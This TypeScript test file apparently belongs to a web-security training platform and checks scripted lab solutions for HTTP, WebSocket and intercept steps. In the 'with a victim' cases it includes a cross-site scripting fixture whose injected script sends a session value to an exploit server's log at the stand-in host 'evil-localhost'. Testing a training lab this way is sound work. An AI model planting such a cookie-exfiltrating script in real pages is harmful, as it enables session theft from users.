import { rm } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Running } from '../start.ts';
import { writeContent, writeupWith } from '../testing/content-folder.ts';
import { startUnregistered } from '../testing/start-test-platform.ts';
import { checkWriteup } from './check-writeup.ts';
import { LearnerPlayer } from './learner-player.ts';
import { runScript } from './run-script.ts';
import { PlatformTrouble, type ScriptContext, scriptAddresses } from './script-context.ts';
import { ScriptedLearner } from './scripted-learner.ts';

/** A writeup of one step, and what comes of it: null when it passes. */
interface Case {
  when?: string;
  script: string[];
  lab?: string;
  failure: RegExp | null;
}

const host = 'headers: { Host: "{{host}}" }';
const login = `http: { path: /login, ${host} }`;
const shake =
  'handshake: { path: "/{{socket}}", headers: { Host: "{{host}}", Origin: "{{origin}}", Cookie: "session={{mine}}", Upgrade: websocket, Connection: Upgrade, Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==, Sec-WebSocket-Version: "13" } }';

const inHttp: Record<string, Case> = {
  'signs in with what it finds in a form and in its cookies': {
    when: '{ kind: http, request.method: POST, status: 401 }',
    script: [
      login,
      `expect: { status: 200, body: 'name="csrf"', find: { csrf: 'name="csrf" value="(\\w+)"' }, cookies: { mine: session } }`,
      'http: { method: POST, path: /login, headers: { Host: "{{host}}", Cookie: "session={{mine}}", Content-Type: application/x-www-form-urlencoded, Content-Length: "{{length}}" }, body: "csrf={{csrf}}&user=teo&password=wrong" }',
      // Without the cookie, the field or the length it would be another status.
      'expect: { status: 401, body: do not belong together }',
    ],
    failure: null,
  },
  'keeps connections by name, and knows the origin of the lab’s own pages': {
    when: '{ kind: message, direction: client }',
    script: [
      `http: { path: /chat, ${host}, as: page }`,
      `expect: { find: { socket: 'data-socket="([^"]+)"' }, cookies: { mine: session } }\n    on: page`,
      shake,
      `http: { path: /login, ${host}, as: other }`,
      'expect: { status: 200, header: { content-type: text/html; charset=utf-8 } }\n    on: other',
      'expect: { status: 101 }',
      `send: '{"type":"line","text":"{{mine}}"}'`,
      'expect: { text: "{{mine}}" }',
    ],
    failure: null,
  },
  'reads what the network saw, and keeps it': {
    when: '{ kind: http, request.headers.x-read.0: { $regex: "^\\\\w+$" } }',
    script: [
      login,
      `capture: { find: 'name="csrf" value="(\\w+)"', keep: csrf }`,
      'http: { path: /login, headers: { Host: "{{host}}", X-Read: "{{csrf}}" } }',
    ],
    failure: null,
  },
  'names the verb that found nothing in what the network saw': {
    script: [login, `capture: { find: 'crsf="(\\w+)"', keep: csrf }`],
    failure: /^capture \(verb 2\): expected crsf="\(\\w\+\)" in what the network saw, found it in none of 2/,
  },
  'has the intercept alter what a browser says': {
    when: '{ kind: intercept, action: edited, direction: client, after: \'{"type":"line","text":"two owls"}\' }',
    script: [
      `http: { path: /chat, ${host} }`,
      `expect: { find: { socket: 'data-socket="([^"]+)"' }, cookies: { mine: session } }`,
      shake.replace('headers: {', 'headers: { User-Agent: Mozilla/5.0,'),
      'expect: { status: 101 }',
      'alter: { find: an owl, replace: two owls }',
      `send: '{"type":"line","text":"an owl"}'`,
      'expect: { text: two owls }',
    ],
    failure: null,
  },
  'names the verb that met another body': {
    script: [login, 'expect: { body: nonsense }'],
    failure: /^expect \(verb 2\): expected a body with "nonsense", got "<!doctype html>/i,
  },
  'names the verb that met a body without what it looks for': {
    script: [login, `expect: { find: { csrf: 'crsf="(\\w+)"' } }`],
    failure: /^expect \(verb 2\): expected a body with crsf="\(\\w\+\)", got/,
  },
  'names the verb that met no such cookie': {
    script: [login, 'expect: { cookies: { mine: sesion } }'],
    failure:
      /^expect \(verb 2\): expected an answer that sets the cookie "sesion", got one that sets session/,
  },
  'names the verb with a name in a header that nothing was kept under': {
    script: ['http: { path: /, headers: { Cookie: "session={{mine}}" } }'],
    failure: /^http \(verb 1\): there is no \{\{mine\}\}/,
  },
};

const withVictim: Record<string, Case> = {
  'hosts a page, delivers it, and takes what came home out of the log': {
    when: '{ kind: http, actor: learner, request.path: { $regex: "^/(\\\\w+)/\\\\1$" } }',
    script: [
      login,
      'expect: { cookies: { mine: session } }',
      `exploit:
      head: |
        HTTP/1.1 200 OK
        Content-Type: text/html
        X-Mine: {{mine}}
      body: |
        <script>fetch('{{exploit}}/log?' + encodeURIComponent(JSON.stringify({ code: '{{mine}}', at: location.hostname })));</script>`,
      'deliver: { host: evil-localhost }',
      `log: { find: '"code":"(\\w+)","at":"evil-localhost"', keep: code }`,
      `http: { path: "/{{code}}/{{mine}}", ${host} }`,
      'expect: { status: 404 }',
    ],
    failure: null,
  },
  'waits until a summoned visit has been and gone': {
    when: '{ kind: visit, who: agent, phase: ended }',
    script: [
      `http: { path: /chat, ${host} }`,
      `expect: { find: { socket: 'data-socket="([^"]+)"' }, cookies: { mine: session } }`,
      shake,
      `send: '{"type":"line","text":"hello"}'`,
      'await: visit',
    ],
    failure: null,
  },
  'says when the log has no such line': {
    script: [`log: { find: 'code=(\\w+)', keep: code, carries: password }`],
    failure:
      /^log \(verb 1\): expected a line of the access log with code=\(\\w\+\) and the secret "password", found none among 0/,
  },
  'is refused where nobody would open a page': {
    script: ['exploit: { body: hi }'],
    lab: 'frames',
    failure: /^exploit \(verb 1\): refused \(EXPLOIT_CLOSED\)/,
  },
};

const cases = Object.entries({ ...inHttp, ...withVictim });
const slugOf = (name: string) => `case-${cases.findIndex(([one]) => one === name)}`;

let running: Running;
beforeAll(async () => {
  const files = cases.map(([name, made]) => [`${slugOf(name)}.md`, writeupOf(made)] as const);
  const folder = await writeContent(Object.fromEntries(files));
  running = await startUnregistered({ CONTENT_DIR: folder });
  await rm(folder, { recursive: true });
  expect(running.services.content.problems).toEqual([]);
});
afterAll(() => running.close());

function writeupOf({ when = '{ kind: close }', script, lab = 'support-chat' }: Case): string {
  const solve = script.map((verb) => `  - ${verb}\n`).join('');
  const settings = lab === 'support-chat' ? '{ encode: nowhere, filter: none, ban: nobody }' : '{}';
  return writeupWith(`id: one\nwhen: ${when}\nhints: [a, b, c]\nsolve:\n${solve}`)
    .replace('lab: handshake', `lab: ${lab}`)
    .replace('{ subprotocols: two }', settings);
}

async function prove(name: string, { failure }: Case): Promise<void> {
  const slug = `apprentice/${slugOf(name)}`;
  const writeup = running.services.content.writeups.find((one) => one.slug === slug);
  if (!writeup) throw new Error('the writeup was left out');
  const failures: (string | null)[] = [];
  for await (const outcome of checkWriteup(running, writeup, 300)) failures.push(outcome.failure);
  expect(failures).toEqual([failure === null ? null : expect.stringMatching(failure)]);
}

describe('a script in HTTP', () => {
  it.each(Object.entries(inHttp))('%s', prove);
});

describe('a script with a victim', () => {
  it.each(Object.entries(withVictim))('%s', prove);

  it('draws no conclusion from a visit that does not end', async () => {
    const { services, origins } = running;
    const [made] = Object.keys(withVictim);
    const learner = await ScriptedLearner.join(origins.platform, `apprentice/${slugOf(made ?? '')}`);
    const bench = services.registry.awake(learner.bench.id);
    if (!bench) throw new Error('the bench is not awake');
    const context: ScriptContext = {
      player: new LearnerPlayer(learner, () => ''),
      bench,
      victims: services.victims,
      intercepts: services.intercepts,
      lab: { host: '127.0.0.1', port: services.ports.lab },
      addresses: scriptAddresses(bench.id, origins),
      connections: new Map(),
      kept: new Map(),
      visitPatience: 300,
    };
    const body = "<script>setInterval(() => fetch('{{exploit}}/x', { mode: 'no-cors' }), 100);</script>";
    await expect(runScript(context, [{ exploit: { body } }, { deliver: true }])).rejects.toMatchObject({
      message: 'deliver (verb 2): it waited 0.3 seconds for the visit to end',
      cause: expect.any(PlatformTrouble),
    });
    services.victims.release(bench);
    learner.close();
  });
});
